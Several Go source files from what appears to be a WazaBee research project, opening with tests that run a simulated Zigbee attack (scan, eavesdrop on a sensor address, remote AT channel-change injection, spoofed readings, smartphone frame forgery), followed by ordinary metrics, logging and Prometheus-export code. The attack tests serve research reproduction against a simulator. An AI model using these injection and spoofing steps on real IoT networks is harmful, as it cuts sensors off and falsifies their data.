		t.Errorf("error = %v, want ErrScanFailed", err)
	}
}

func TestEavesdropRecoversSensorAddress(t *testing.T) {
	sim := newSim(t, 4)
	tracker := newTracker(t, sim)

	info := &NetworkInfo{Channel: zigbee.DefaultChannel, PAN: zigbee.DefaultPAN, Coordinator: zigbee.DefaultCoordinator}
	addr, err := tracker.Eavesdrop(info, 5)
	if err != nil {
		t.Fatal(err)
	}
	if addr != zigbee.DefaultSensor {
		t.Errorf("sensor address = %#04x, want %#04x", addr, zigbee.DefaultSensor)
	}
	if _, err := tracker.Eavesdrop(nil, 5); err == nil {
		t.Error("expected error for nil info")
	}
}

func TestEavesdropQuietChannel(t *testing.T) {
	sim := newSim(t, 5)
	tracker := newTracker(t, sim)
	info := &NetworkInfo{Channel: 22, PAN: zigbee.DefaultPAN, Coordinator: zigbee.DefaultCoordinator}
	if _, err := tracker.Eavesdrop(info, 3); !errors.Is(err, ErrNoSensorTraffic) {
		t.Errorf("error = %v, want ErrNoSensorTraffic", err)
	}
}

func TestInjectChannelChange(t *testing.T) {
	sim := newSim(t, 6)
	tracker := newTracker(t, sim)
	info := &NetworkInfo{Channel: zigbee.DefaultChannel, PAN: zigbee.DefaultPAN, Coordinator: zigbee.DefaultCoordinator}

	if err := tracker.InjectChannelChange(info, zigbee.DefaultSensor, 20); err != nil {
		t.Fatal(err)
	}
	if sim.Sensor.Channel != 20 {
		t.Errorf("sensor channel = %d, want 20 after AT injection", sim.Sensor.Channel)
	}

	if err := tracker.InjectChannelChange(info, zigbee.DefaultSensor, 99); err == nil {
		t.Error("expected error for invalid target channel")
	}
	if err := tracker.InjectChannelChange(nil, zigbee.DefaultSensor, 20); err == nil {
		t.Error("expected error for nil info")
	}
}

func TestSpoofData(t *testing.T) {
	sim := newSim(t, 7)
	tracker := newTracker(t, sim)
	info := &NetworkInfo{Channel: zigbee.DefaultChannel, PAN: zigbee.DefaultPAN, Coordinator: zigbee.DefaultCoordinator}

	if err := tracker.SpoofData(info, zigbee.DefaultSensor, 0x7777); err != nil {
		t.Fatal(err)
	}
	last, ok := sim.Coordinator.LastReading()
	if !ok || last.Value != 0x7777 || last.Src != zigbee.DefaultSensor {
		t.Errorf("coordinator reading = %+v, %v", last, ok)
	}
	if err := tracker.SpoofData(nil, zigbee.DefaultSensor, 1); err == nil {
		t.Error("expected error for nil info")
	}
}

// TestScenarioBFullAttack runs all four steps end to end, mirroring the
// workflow of Figure 5: scan → eavesdrop → remote AT injection → fake
// data injection.
func TestScenarioBFullAttack(t *testing.T) {
	sim := newSim(t, 8)
	tracker := newTracker(t, sim)

	info, err := tracker.Run(ieee802154.Channels(), 25, []uint16{1000, 1001, 1002})
	if err != nil {
		t.Fatal(err)
	}
	if info.PAN != zigbee.DefaultPAN {
		t.Errorf("attacked PAN = %#x", info.PAN)
	}
	// The sensor was pushed off the network channel (denial of
	// service)...
	if sim.Sensor.Channel != 25 {
		t.Errorf("sensor channel = %d, want 25", sim.Sensor.Channel)
	}
	// ...and the display now shows the attacker's fake values.
	readings := sim.Coordinator.Readings
	if len(readings) < 3 {
		t.Fatalf("coordinator recorded %d readings, want at least 3", len(readings))
	}
	tail := readings[len(readings)-3:]
	for i, want := range []uint16{1000, 1001, 1002} {
		if tail[i].Value != want {
			t.Errorf("fake reading %d = %d, want %d", i, tail[i].Value, want)
		}
	}
}

// TestScenarioASmartphoneInjection reproduces Figure 4: forged data
// packets injected from a phone-class device through extended
// advertising, received by the legitimate coordinator on channel 14.
func TestScenarioASmartphoneInjection(t *testing.T) {
	sim := newSim(t, 9)
	phone, err := NewSmartphone(testSPS)
	if err != nil {
		t.Fatal(err)
	}

	// The forged frame mimics a sensor reading.
	frame := ieee802154.NewDataFrame(0x2a, zigbee.DefaultPAN, zigbee.DefaultCoordinator, zigbee.DefaultSensor, zigbee.SensorPayload(0x1337), false)
	psdu, err := frame.Encode()
	if err != nil {
		t.Fatal(err)
	}
	ppdu, err := ieee802154.NewPPDU(psdu)
	if err != nil {
		t.Fatal(err)
	}

	attempts, err := phone.InjectFrame(sim, zigbee.DefaultChannel, ppdu, 500)
	if err != nil {
		t.Fatal(err)
	}
	if attempts < 1 {
		t.Error("injection reported zero advertising events")
	}
	last, ok := sim.Coordinator.LastReading()
	if !ok || last.Value != 0x1337 {
		t.Errorf("coordinator reading = %+v, %v — forged packet not accepted", last, ok)
	}
}

func TestSmartphoneCannotReachNonTableIIChannels(t *testing.T) {
	sim := newSim(t, 10)
	phone, err := NewSmartphone(testSPS)
	if err != nil {
		t.Fatal(err)
	}
	ppdu, err := ieee802154.NewPPDU([]byte{1, 2, 3, 4})
	if err != nil {
		t.Fatal(err)
	}
	// Channel 15 (2425 MHz) has no BLE channel equivalent.
	if _, err := phone.InjectFrame(sim, 15, ppdu, 10); err == nil {
		t.Error("expected error for a Zigbee channel without BLE equivalent")
	}
	// Channel 26 maps to BLE 39, an advertising channel CSA#2 never
	// selects.
	if _, err := phone.InjectFrame(sim, 26, ppdu, 10); err == nil {
		t.Error("expected error for BLE channel 39 (not a data channel)")
	}
}

func TestSmartphoneAdvertiseOnceChannelFollowsCSA2(t *testing.T) {
	phone, err := NewSmartphone(testSPS)
	if err != nil {
		t.Fatal(err)
	}
	ppdu, err := ieee802154.NewPPDU([]byte{9, 9})
	if err != nil {
		t.Fatal(err)
	}
	seen := make(map[int]bool)
	for e := 0; e < 64; e++ {
		sig, ch, err := phone.AdvertiseOnce(uint16(e), ppdu)
		if err != nil {
			t.Fatal(err)
		}
		if len(sig) == 0 {
			t.Fatal("empty advertising waveform")
		}
		seen[ch] = true
	}
	if len(seen) < 10 {
		t.Errorf("CSA#2 selected only %d distinct channels in 64 events", len(seen))
	}
	if _, _, err := phone.AdvertiseOnce(0, nil); err == nil {
		t.Error("expected error for nil PPDU")
	}
}

// TestCrossChipInteroperability: frames transmitted by each BLE chip
// model must decode on every other model's receiver — the attack is not
// implementation dependent (section I).
func TestCrossChipInteroperability(t *testing.T) {
	models := []chip.Model{chip.NRF52832(), chip.CC1352R1(), chip.NRF51822()}
	psduPayload := []byte{0x41, 0x88, 0x11, 0x34, 0x12, 0xff, 0xff, 0x63, 0x00, 0x42}
	for _, txModel := range models {
		for _, rxModel := range models {
			t.Run(txModel.Name+"->"+rxModel.Name, func(t *testing.T) {
				tx, err := txModel.NewWazaBeeTransmitter(testSPS)
				if err != nil {
					t.Fatal(err)
				}
				rx, err := rxModel.NewWazaBeeReceiver(testSPS)
				if err != nil {
					t.Fatal(err)
				}
				psdu := appendFCS(psduPayload)
				sig, err := tx.ModulatePSDU(psdu)
				if err != nil {
					t.Fatal(err)
				}
				padded, err := sig.Pad(150, 150)
				if err != nil {
					t.Fatal(err)
				}
				dem, err := rx.Receive(padded)
				if err != nil {
					t.Fatal(err)
				}
				if len(dem.PPDU.PSDU) != len(psdu) {
					t.Errorf("PSDU length = %d, want %d", len(dem.PPDU.PSDU), len(psdu))
				}
			})
		}
	}
}

func appendFCS(payload []byte) []byte {
	fcs := bitstream.FCS16Bytes(bitstream.FCS16(payload))
	return append(append([]byte{}, payload...), fcs[0], fcs[1])
}
