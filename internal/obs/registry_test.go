package obs

import (
	"math"
	"math/rand"
	"sort"
	"sync"
	"testing"
)

// TestConcurrentHammering drives counters, gauges and histograms from
// many goroutines at once; with -race this doubles as the data-race
// check the package's concurrency contract promises.
func TestConcurrentHammering(t *testing.T) {
	reg := NewRegistry()
	const (
		workers = 16
		perG    = 2000
	)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			c := reg.Counter("hammer_total")
			labelled := reg.Counter("hammer_labelled_total", "worker", []string{"even", "odd"}[w%2])
			g := reg.Gauge("hammer_gauge")
			h := reg.Histogram("hammer_hist", LinearBuckets(0, 1, 10))
			for i := 0; i < perG; i++ {
				c.Inc()
				labelled.Add(2)
				g.Set(float64(i))
				g.Add(1)
				h.Observe(float64(i % 10))
			}
		}(w)
	}
	wg.Wait()

	if got := reg.Counter("hammer_total").Value(); got != workers*perG {
		t.Errorf("counter = %d, want %d", got, workers*perG)
	}
	even := reg.Counter("hammer_labelled_total", "worker", "even").Value()
	odd := reg.Counter("hammer_labelled_total", "worker", "odd").Value()
	if even+odd != 2*workers*perG {
		t.Errorf("labelled counters sum = %d, want %d", even+odd, 2*workers*perG)
	}
	if got := reg.Histogram("hammer_hist", nil).Count(); got != workers*perG {
		t.Errorf("histogram count = %d, want %d", got, workers*perG)
	}
	// Encoding while another goroutine writes must be race-free too.
	var wg2 sync.WaitGroup
	wg2.Add(2)
	go func() {
		defer wg2.Done()
		for i := 0; i < 100; i++ {
			reg.Counter("hammer_total").Inc()
			reg.Histogram("hammer_hist", nil).Observe(3)
		}
	}()
	go func() {
		defer wg2.Done()
		for i := 0; i < 20; i++ {
			_ = reg.PrometheusText()
			_ = reg.Snapshot()
		}
	}()
	wg2.Wait()
}

// TestQuantileAgainstSortedReference checks the interpolated quantile
// estimate against the exact quantile of the same sample, requiring
// agreement within one bucket width.
func TestQuantileAgainstSortedReference(t *testing.T) {
	rnd := rand.New(rand.NewSource(42))
	const n = 5000
	bucketWidth := 0.5
	h := newHistogram(LinearBuckets(0, bucketWidth, 41)) // covers [0,20]

	samples := make([]float64, n)
	for i := range samples {
		v := rnd.NormFloat64()*3 + 10 // mostly inside [0,20]
		if v < 0 {
			v = 0
		}
		if v > 20 {
			v = 20
		}
		samples[i] = v
		h.Observe(v)
	}
	sort.Float64s(samples)

	for _, q := range []float64{0, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99, 1} {
		got := h.Quantile(q)
		idx := int(q*float64(n)) - 1
		if idx < 0 {
			idx = 0
		}
		want := samples[idx]
		if math.Abs(got-want) > bucketWidth {
			t.Errorf("Quantile(%g) = %g, exact %g (tolerance %g)", q, got, want, bucketWidth)
		}
	}

	if got := h.Quantile(0.5); got < h.Quantile(0.1) || got > h.Quantile(0.9) {
		t.Errorf("quantiles not monotone: p10=%g p50=%g p90=%g",
			h.Quantile(0.1), got, h.Quantile(0.9))
	}
	if !math.IsNaN(h.Quantile(-0.1)) || !math.IsNaN(h.Quantile(1.5)) {
		t.Error("out-of-range quantile should be NaN")
	}
	if !math.IsNaN(newHistogram(nil).Quantile(0.5)) {
		t.Error("empty histogram quantile should be NaN")
	}
}

// TestQuantileClamps checks the estimate never leaves the observed
// range, including in the +Inf overflow bucket.
func TestQuantileClamps(t *testing.T) {
	h := newHistogram([]float64{1, 2})
	h.Observe(0.5)
	h.Observe(1.5)
	h.Observe(100) // +Inf bucket
	if got := h.Quantile(1); got != 100 {
		t.Errorf("Quantile(1) = %g, want observed max 100", got)
	}
	if got := h.Quantile(0); got < 0.5 {
		t.Errorf("Quantile(0) = %g, below observed min 0.5", got)
	}
}

func TestHistogramStats(t *testing.T) {
	h := newHistogram(LinearBuckets(0, 1, 5))
	for _, v := range []float64{1, 2, 3} {
		h.Observe(v)
	}
	if h.Count() != 3 || h.Sum() != 6 || h.Mean() != 2 {
		t.Errorf("count/sum/mean = %d/%g/%g, want 3/6/2", h.Count(), h.Sum(), h.Mean())
	}
}

func TestMerge(t *testing.T) {
	a, b := NewRegistry(), NewRegistry()
	a.Counter("frames_total", "side", "rx").Add(3)
	b.Counter("frames_total", "side", "rx").Add(4)
	b.Counter("frames_total", "side", "tx").Add(1)
	b.Gauge("snr_db").Set(12)
	a.Histogram("dist", LinearBuckets(0, 1, 4)).Observe(1)
	b.Histogram("dist", LinearBuckets(0, 1, 4)).Observe(2)

	if err := a.Merge(b); err != nil {
		t.Fatal(err)
	}
	if got := a.Counter("frames_total", "side", "rx").Value(); got != 7 {
		t.Errorf("merged counter = %d, want 7", got)
	}
	if got := a.Counter("frames_total", "side", "tx").Value(); got != 1 {
		t.Errorf("new-series counter = %d, want 1", got)
	}
	if got := a.Gauge("snr_db").Value(); got != 12 {
		t.Errorf("merged gauge = %g, want 12", got)
	}
	if got := a.Histogram("dist", nil).Count(); got != 2 {
		t.Errorf("merged histogram count = %d, want 2", got)
	}

	// Mismatched bucket layouts are reported, not silently mangled.
	c := NewRegistry()
	c.Histogram("dist", LinearBuckets(0, 2, 2)).Observe(1)
	if err := a.Merge(c); err == nil {
		t.Error("expected bucket-layout mismatch error")
	}
	// Self- and nil-merges are no-ops.
	if err := a.Merge(a); err != nil {
		t.Errorf("self merge: %v", err)
	}
	if err := a.Merge(nil); err != nil {
		t.Errorf("nil merge: %v", err)
	}
}

func TestKindCollisionPanics(t *testing.T) {
	reg := NewRegistry()
	reg.Counter("x_total")
	defer func() {
		if recover() == nil {
			t.Error("expected panic on kind collision")
		}
	}()
	reg.Gauge("x_total")
}

func TestReset(t *testing.T) {
	reg := NewRegistry()
	reg.Counter("a_total").Inc()
	reg.Reset()
	if got := reg.Counter("a_total").Value(); got != 0 {
		t.Errorf("counter after reset = %d, want 0", got)
	}
	if len(reg.Snapshot()) != 1 {
		t.Errorf("snapshot after reset has %d series, want the 1 just recreated", len(reg.Snapshot()))
	}
}

func TestStageHelper(t *testing.T) {
	reg := NewRegistry()
	tr := NewTrace("frame")
	done := Stage(reg, tr, "demod")
	done()
	h := reg.Histogram(StageSecondsMetric, nil, "stage", "demod")
	if h.Count() != 1 {
		t.Fatalf("stage histogram count = %d, want 1", h.Count())
	}
	roots := tr.Roots()
	if len(roots) != 1 || roots[0].Name != "demod" {
		t.Fatalf("trace roots = %+v, want one demod span", roots)
	}
	// Both sinks optional.
	Stage(nil, nil, "noop")()
}
