package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"sync"
	"time"
)

// Level orders structured log events by severity.
type Level int32

// Log levels, least to most severe.
const (
	LevelDebug Level = iota
	LevelInfo
	LevelWarn
	LevelError
)

// String implements fmt.Stringer.
func (l Level) String() string {
	switch l {
	case LevelDebug:
		return "debug"
	case LevelInfo:
		return "info"
	case LevelWarn:
		return "warn"
	case LevelError:
		return "error"
	default:
		return fmt.Sprintf("level(%d)", int32(l))
	}
}

// ParseLevel converts a level name ("debug", "info", "warn", "error")
// back to a Level.
func ParseLevel(s string) (Level, error) {
	switch s {
	case "debug":
		return LevelDebug, nil
	case "info":
		return LevelInfo, nil
	case "warn", "warning":
		return LevelWarn, nil
	case "error":
		return LevelError, nil
	default:
		return 0, fmt.Errorf("obs: unknown log level %q", s)
	}
}

// Event is one structured log record: what happened, where, when, at
// what severity, with arbitrary key/value context.
type Event struct {
	Seq       uint64         `json:"seq"`
	Time      time.Time      `json:"ts"`
	Level     string         `json:"level"`
	Component string         `json:"component"`
	Msg       string         `json:"msg"`
	Fields    map[string]any `json:"fields,omitempty"`
}

// Logger is a leveled structured event logger: JSON lines to an
// optional sink, a bounded ring buffer of recent events (the /logz
// endpoint), per-component level overrides, and event counters in a
// metrics registry. All methods are safe for concurrent use.
type Logger struct {
	mu        sync.Mutex
	sink      io.Writer
	ring      []Event
	head, n   int
	seq       uint64
	level     Level
	overrides map[string]Level
	reg       *Registry
}

// NewLogger builds a logger that keeps the last ringSize events (min 1)
// and, when sink is non-nil, writes each event as one JSON line to it.
// The default threshold is LevelInfo; event counts land in the process
// default metrics registry as wazabee_log_events_total{level}.
func NewLogger(sink io.Writer, ringSize int) *Logger {
	if ringSize < 1 {
		ringSize = 1
	}
	return &Logger{
		sink:      sink,
		ring:      make([]Event, ringSize),
		level:     LevelInfo,
		overrides: make(map[string]Level),
		reg:       Default(),
	}
}

// defaultLog is the process-wide logger instrumented code falls back
// to: ring-buffer only (no sink) until a command wires one in.
var defaultLog = NewLogger(nil, 512)

// DefaultLogger returns the process-wide structured logger.
func DefaultLogger() *Logger {
	return defaultLog
}

// OrLogger returns l when non-nil and the process default otherwise —
// the idiom components with an optional Log field use to resolve it.
func OrLogger(l *Logger) *Logger {
	if l != nil {
		return l
	}
	return defaultLog
}

// SetSink directs the JSON-lines output; nil keeps events in the ring
// only.
func (l *Logger) SetSink(w io.Writer) {
	l.mu.Lock()
	l.sink = w
	l.mu.Unlock()
}

// SetLevel sets the default threshold below which events are dropped.
func (l *Logger) SetLevel(lv Level) {
	l.mu.Lock()
	l.level = lv
	l.mu.Unlock()
}

// SetComponentLevel overrides the threshold for one component (e.g.
// turn the hub down to debug while the rest of the daemon stays at
// info).
func (l *Logger) SetComponentLevel(component string, lv Level) {
	l.mu.Lock()
	l.overrides[component] = lv
	l.mu.Unlock()
}

// Enabled reports whether an event at lv for component would be kept.
func (l *Logger) Enabled(component string, lv Level) bool {
	l.mu.Lock()
	defer l.mu.Unlock()
	return lv >= l.threshold(component)
}

// threshold resolves the effective level for a component; callers hold
// l.mu.
func (l *Logger) threshold(component string) Level {
	if lv, ok := l.overrides[component]; ok {
		return lv
	}
	return l.level
}

// Log records one event. kv are alternating key, value pairs; a
// dangling key gets the value "(MISSING)". Values must be JSON-encodable
// (strings, numbers, booleans); anything else is stringified with %v so
// a bad field can never break the sink.
func (l *Logger) Log(lv Level, component, msg string, kv ...any) {
	var fields map[string]any
	if len(kv) > 0 {
		fields = make(map[string]any, (len(kv)+1)/2)
		for i := 0; i < len(kv); i += 2 {
			key, ok := kv[i].(string)
			if !ok {
				key = fmt.Sprintf("%v", kv[i])
			}
			var v any = "(MISSING)"
			if i+1 < len(kv) {
				v = kv[i+1]
			}
			switch v.(type) {
			case string, bool, int, int8, int16, int32, int64,
				uint, uint8, uint16, uint32, uint64, float32, float64, nil:
			default:
				v = fmt.Sprintf("%v", v)
			}
			fields[key] = v
		}
	}

	l.mu.Lock()
	if lv < l.threshold(component) {
		l.mu.Unlock()
		return
	}
	l.seq++
	ev := Event{
		Seq:       l.seq,
		Time:      time.Now(),
		Level:     lv.String(),
		Component: component,
		Msg:       msg,
		Fields:    fields,
	}
	if l.n == len(l.ring) {
		l.head = (l.head + 1) % len(l.ring)
		l.n--
	}
	l.ring[(l.head+l.n)%len(l.ring)] = ev
	l.n++
	sink := l.sink
	reg := l.reg
	l.mu.Unlock()

	reg.Counter("wazabee_log_events_total", "level", ev.Level).Inc()
	if sink != nil {
		if b, err := json.Marshal(ev); err == nil {
			b = append(b, '\n')
			_, _ = sink.Write(b)
		}
	}
}

// Debug logs at LevelDebug.
func (l *Logger) Debug(component, msg string, kv ...any) { l.Log(LevelDebug, component, msg, kv...) }

// Info logs at LevelInfo.
func (l *Logger) Info(component, msg string, kv ...any) { l.Log(LevelInfo, component, msg, kv...) }

// Warn logs at LevelWarn.
func (l *Logger) Warn(component, msg string, kv ...any) { l.Log(LevelWarn, component, msg, kv...) }

// Error logs at LevelError.
func (l *Logger) Error(component, msg string, kv ...any) { l.Log(LevelError, component, msg, kv...) }

// Events returns the ring buffer's contents, oldest first.
func (l *Logger) Events() []Event {
	l.mu.Lock()
	defer l.mu.Unlock()
	out := make([]Event, 0, l.n)
	for i := 0; i < l.n; i++ {
		out = append(out, l.ring[(l.head+i)%len(l.ring)])
	}
	return out
}

// ServeHTTP serves the ring buffer as JSON — the /logz endpoint. Query
// parameters: ?level= filters to that severity and above, ?component=
// to one component, ?n= to the most recent n events.
func (l *Logger) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	events := l.Events()
	q := req.URL.Query()
	if s := q.Get("level"); s != "" {
		min, err := ParseLevel(s)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		kept := events[:0]
		for _, ev := range events {
			if lv, err := ParseLevel(ev.Level); err == nil && lv >= min {
				kept = append(kept, ev)
			}
		}
		events = kept
	}
	if c := q.Get("component"); c != "" {
		kept := events[:0]
		for _, ev := range events {
			if ev.Component == c {
				kept = append(kept, ev)
			}
		}
		events = kept
	}
	if s := q.Get("n"); s != "" {
		n, err := strconv.Atoi(s)
		if err != nil || n < 0 {
			http.Error(w, fmt.Sprintf("obs: bad event count %q", s), http.StatusBadRequest)
			return
		}
		if n < len(events) {
			events = events[len(events)-n:]
		}
	}
	payload := struct {
		Events []Event `json:"events"`
	}{Events: events}
	b, err := json.MarshalIndent(payload, "", "  ")
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	_, _ = w.Write(b)
}
