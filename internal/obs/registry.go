package obs

import (
	"fmt"
	"math"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
)

// Label is one name/value pair qualifying a metric series.
type Label struct {
	Name  string
	Value string
}

// Counter is a monotonically increasing counter.
type Counter struct {
	v atomic.Uint64
}

// Inc adds one.
func (c *Counter) Inc() { c.v.Add(1) }

// Add adds n (n must be non-negative semantics; negative deltas are the
// caller's bug and are ignored).
func (c *Counter) Add(n uint64) { c.v.Add(n) }

// Value returns the current count.
func (c *Counter) Value() uint64 { return c.v.Load() }

// Gauge is a settable instantaneous value.
type Gauge struct {
	bits atomic.Uint64
}

// Set stores v.
func (g *Gauge) Set(v float64) { g.bits.Store(math.Float64bits(v)) }

// Add adjusts the gauge by delta.
func (g *Gauge) Add(delta float64) {
	for {
		old := g.bits.Load()
		next := math.Float64bits(math.Float64frombits(old) + delta)
		if g.bits.CompareAndSwap(old, next) {
			return
		}
	}
}

// Value returns the stored value.
func (g *Gauge) Value() float64 { return math.Float64frombits(g.bits.Load()) }

// series is one registered metric time series.
type series struct {
	name   string
	labels []Label
	kind   string // "counter", "gauge", "histogram"

	counter *Counter
	gauge   *Gauge
	hist    *Histogram
}

// Registry holds a process's (or one experiment run's) metric series.
// All methods are safe for concurrent use. Series are created lazily on
// first access and identified by name plus the full label set.
type Registry struct {
	mu     sync.RWMutex
	series map[string]*series
	order  []string // registration order, for stable human-friendly dumps
	help   map[string]string
}

// NewRegistry builds an empty registry.
func NewRegistry() *Registry {
	return &Registry{
		series: make(map[string]*series),
		help:   make(map[string]string),
	}
}

// SetHelp attaches a help string to a metric family, emitted as the
// # HELP line of the Prometheus encoding.
func (r *Registry) SetHelp(name, help string) {
	r.mu.Lock()
	r.help[name] = help
	r.mu.Unlock()
}

// labelSet normalises k/v varargs into a sorted label slice. Labels
// arrive as alternating name, value strings; an odd count is a
// programmer error and panics (like fmt verbs, it cannot be handled
// meaningfully at runtime).
func labelSet(kv []string) []Label {
	if len(kv)%2 != 0 {
		panic(fmt.Sprintf("obs: odd label list %q", kv))
	}
	labels := make([]Label, 0, len(kv)/2)
	for i := 0; i < len(kv); i += 2 {
		labels = append(labels, Label{Name: kv[i], Value: kv[i+1]})
	}
	sort.Slice(labels, func(i, j int) bool { return labels[i].Name < labels[j].Name })
	return labels
}

// seriesKey is the canonical map key of a series.
func seriesKey(name string, labels []Label) string {
	if len(labels) == 0 {
		return name
	}
	var b strings.Builder
	b.WriteString(name)
	for _, l := range labels {
		b.WriteByte(0)
		b.WriteString(l.Name)
		b.WriteByte(0)
		b.WriteString(l.Value)
	}
	return b.String()
}

// lookup returns the series for (name, labels), creating it with mk on
// first use. It guards against a name being reused with a different
// metric kind.
func (r *Registry) lookup(name, kind string, labels []Label, mk func(*series)) *series {
	key := seriesKey(name, labels)
	r.mu.RLock()
	s, ok := r.series[key]
	r.mu.RUnlock()
	if ok {
		if s.kind != kind {
			panic(fmt.Sprintf("obs: metric %q registered as %s, requested as %s", name, s.kind, kind))
		}
		return s
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if s, ok := r.series[key]; ok {
		if s.kind != kind {
			panic(fmt.Sprintf("obs: metric %q registered as %s, requested as %s", name, s.kind, kind))
		}
		return s
	}
	s = &series{name: name, labels: labels, kind: kind}
	mk(s)
	r.series[key] = s
	r.order = append(r.order, key)
	return s
}

// Counter returns (creating if needed) the counter for name and the
// given label name/value pairs.
func (r *Registry) Counter(name string, labelPairs ...string) *Counter {
	s := r.lookup(name, "counter", labelSet(labelPairs), func(s *series) {
		s.counter = &Counter{}
	})
	return s.counter
}

// Gauge returns (creating if needed) the gauge for name and labels.
func (r *Registry) Gauge(name string, labelPairs ...string) *Gauge {
	s := r.lookup(name, "gauge", labelSet(labelPairs), func(s *series) {
		s.gauge = &Gauge{}
	})
	return s.gauge
}

// Histogram returns (creating if needed) the histogram for name and
// labels. The bucket bounds apply only on creation; later calls reuse
// the existing series regardless of the bounds argument, so one metric
// family keeps one bucket layout.
func (r *Registry) Histogram(name string, buckets []float64, labelPairs ...string) *Histogram {
	s := r.lookup(name, "histogram", labelSet(labelPairs), func(s *series) {
		s.hist = newHistogram(buckets)
	})
	return s.hist
}

// Reset removes every series (help strings survive). Tests and
// benchmark loops use it to start from a clean slate.
func (r *Registry) Reset() {
	r.mu.Lock()
	r.series = make(map[string]*series)
	r.order = nil
	r.mu.Unlock()
}

// Merge folds other's series into r: counters add, gauges take other's
// value, histograms add bucket-wise (bucket layouts must match; a
// mismatched layout is reported as an error and that series skipped).
// Experiment runs accumulate into a private registry and merge it into
// the process default when done, so partially-failed runs never leave
// half-counted series behind.
func (r *Registry) Merge(other *Registry) error {
	if other == nil || other == r {
		return nil
	}
	other.mu.RLock()
	keys := append([]string(nil), other.order...)
	src := make([]*series, 0, len(keys))
	for _, k := range keys {
		src = append(src, other.series[k])
	}
	other.mu.RUnlock()

	var firstErr error
	for _, s := range src {
		pairs := make([]string, 0, 2*len(s.labels))
		for _, l := range s.labels {
			pairs = append(pairs, l.Name, l.Value)
		}
		switch s.kind {
		case "counter":
			r.Counter(s.name, pairs...).Add(s.counter.Value())
		case "gauge":
			r.Gauge(s.name, pairs...).Set(s.gauge.Value())
		case "histogram":
			dst := r.Histogram(s.name, s.hist.bounds, pairs...)
			if err := dst.merge(s.hist); err != nil && firstErr == nil {
				firstErr = fmt.Errorf("obs: merge %s: %w", s.name, err)
			}
		}
	}
	return firstErr
}

// sortedSeries returns all series ordered by name then label set — the
// deterministic order of both encodings.
func (r *Registry) sortedSeries() []*series {
	r.mu.RLock()
	out := make([]*series, 0, len(r.series))
	for _, key := range r.order {
		out = append(out, r.series[key])
	}
	r.mu.RUnlock()
	sort.Slice(out, func(i, j int) bool {
		if out[i].name != out[j].name {
			return out[i].name < out[j].name
		}
		return seriesKey("", out[i].labels) < seriesKey("", out[j].labels)
	})
	return out
}
