package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
)

// formatLabels renders a Prometheus label block, with extra pairs (used
// for the histogram "le" label) appended after the series labels.
func formatLabels(labels []Label, extra ...Label) string {
	all := append(append([]Label(nil), labels...), extra...)
	if len(all) == 0 {
		return ""
	}
	parts := make([]string, len(all))
	for i, l := range all {
		parts[i] = fmt.Sprintf("%s=%q", l.Name, l.Value)
	}
	return "{" + strings.Join(parts, ",") + "}"
}

// formatFloat renders a float the way the exposition format expects.
func formatFloat(v float64) string {
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// WritePrometheus writes every series in the Prometheus text exposition
// format (version 0.0.4), deterministically ordered by metric name and
// label set. Histograms emit cumulative le-labelled buckets plus _sum
// and _count, exactly as a scraper expects.
func (r *Registry) WritePrometheus(w io.Writer) error {
	r.mu.RLock()
	help := make(map[string]string, len(r.help))
	for k, v := range r.help {
		help[k] = v
	}
	r.mu.RUnlock()

	lastName := ""
	for _, s := range r.sortedSeries() {
		if s.name != lastName {
			if h, ok := help[s.name]; ok {
				if _, err := fmt.Fprintf(w, "# HELP %s %s\n", s.name, h); err != nil {
					return err
				}
			}
			if _, err := fmt.Fprintf(w, "# TYPE %s %s\n", s.name, s.kind); err != nil {
				return err
			}
			lastName = s.name
		}
		switch s.kind {
		case "counter":
			if _, err := fmt.Fprintf(w, "%s%s %d\n", s.name, formatLabels(s.labels), s.counter.Value()); err != nil {
				return err
			}
		case "gauge":
			if _, err := fmt.Fprintf(w, "%s%s %s\n", s.name, formatLabels(s.labels), formatFloat(s.gauge.Value())); err != nil {
				return err
			}
		case "histogram":
			st := s.hist.snapshot()
			var cum uint64
			for i, bound := range st.bounds {
				cum += st.counts[i]
				le := Label{Name: "le", Value: formatFloat(bound)}
				if _, err := fmt.Fprintf(w, "%s_bucket%s %d\n", s.name, formatLabels(s.labels, le), cum); err != nil {
					return err
				}
			}
			cum += st.counts[len(st.bounds)]
			le := Label{Name: "le", Value: "+Inf"}
			if _, err := fmt.Fprintf(w, "%s_bucket%s %d\n", s.name, formatLabels(s.labels, le), cum); err != nil {
				return err
			}
			if _, err := fmt.Fprintf(w, "%s_sum%s %s\n", s.name, formatLabels(s.labels), formatFloat(st.sum)); err != nil {
				return err
			}
			if _, err := fmt.Fprintf(w, "%s_count%s %d\n", s.name, formatLabels(s.labels), st.count); err != nil {
				return err
			}
		}
	}
	return nil
}

// PrometheusText returns the full text exposition as a string.
func (r *Registry) PrometheusText() string {
	var b strings.Builder
	_ = r.WritePrometheus(&b)
	return b.String()
}

// SeriesSnapshot is one series of a JSON snapshot.
type SeriesSnapshot struct {
	Name   string            `json:"name"`
	Kind   string            `json:"kind"`
	Labels map[string]string `json:"labels,omitempty"`

	// Counter / gauge value.
	Value float64 `json:"value,omitempty"`

	// Histogram payload.
	Count     uint64             `json:"count,omitempty"`
	Sum       float64            `json:"sum,omitempty"`
	Mean      float64            `json:"mean,omitempty"`
	Quantiles map[string]float64 `json:"quantiles,omitempty"`
	Buckets   []BucketSnapshot   `json:"buckets,omitempty"`
}

// BucketSnapshot is one cumulative histogram bucket. The implicit +Inf
// bucket is omitted (JSON has no infinity); its cumulative count equals
// the series Count.
type BucketSnapshot struct {
	LE    float64 `json:"le"`
	Count uint64  `json:"count"`
}

// snapshotQuantiles are the quantile points included in JSON snapshots.
var snapshotQuantiles = []float64{0.5, 0.9, 0.99}

// Snapshot returns a point-in-time copy of every series, ordered like
// the Prometheus encoding.
func (r *Registry) Snapshot() []SeriesSnapshot {
	srs := r.sortedSeries()
	out := make([]SeriesSnapshot, 0, len(srs))
	for _, s := range srs {
